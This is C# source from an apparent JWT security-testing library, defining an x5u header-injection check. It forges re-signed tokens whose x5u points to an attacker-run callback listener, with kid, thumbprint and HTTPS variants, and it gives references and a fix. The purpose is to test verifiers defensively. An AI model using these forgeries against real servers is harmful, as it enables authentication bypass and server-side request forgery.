using System.Security.Cryptography;
using System.Text.Json.Nodes;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// The header says where the certificate is, <c>x5u</c>, and the verifier fetches it and believes it. A visit alone is a
/// finding: an unverified token chose what the server fetches. RFC 7515 4.1.5, RFC 8725 3.10.
/// </summary>
internal sealed class X5uInjection : JwtAttack
{
    public override string Id => "CRY1065";

    public override JwtFamily Family => JwtFamily.EmbeddedKey;

    public override IReadOnlyList<int> Cwe => [295, 918];

    public override IReadOnlyList<string> References => ["RFC 8725 3.10", "ASVS 9.1.3"];

    public override string Cause => "follows an address in the token to a certificate (x5u)";

    public override string Why =>
        "anyone can become anyone who can put a certificate on a web server, or have the server fetch what they like";

    public override string Fix =>
        "ignore x5u: set Authority or IssuerSigningKeys; a certificate counts only when it was configured or its chain ends in your own root";

    internal override Needs Needs => Needs.Callback;

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        if (attacker.Callback is not { } listener)
        {
            yield break;
        }

        var token = attacker.Token;
        var signer = AttackerKeys.PublicKeySignerFor(token.Alg);
        yield return At("kid kept", _ => { });
        yield return At("no kid", header => header.Remove("kid"));
        yield return At("with its thumbprint", header => header["x5t#S256"] =
            RawJwt.Segment(AttackerCertificates.SelfSigned(signer.Alg).GetCertHash(HashAlgorithmName.SHA256)));

        var id = listener.NewId();
        using var door = listener.OpenTlsDoor(id);
        yield return With(door.Url("cert.pem"), id, "over https", _ => { });

        Forgery At(string variant, Action<JsonObject> change)
        {
            var visit = listener.NewId();
            return With(listener.Url(visit, $"{signer.Alg}/cert.pem"), visit, variant, change);
        }

        Forgery With(string url, string visit, string variant, Action<JsonObject> change) => new(
            ResignedJwt.With(token, signer, header =>
            {
                change(header);
                header["x5u"] = url;
            }),
            variant) { Callback = visit };
    }
}
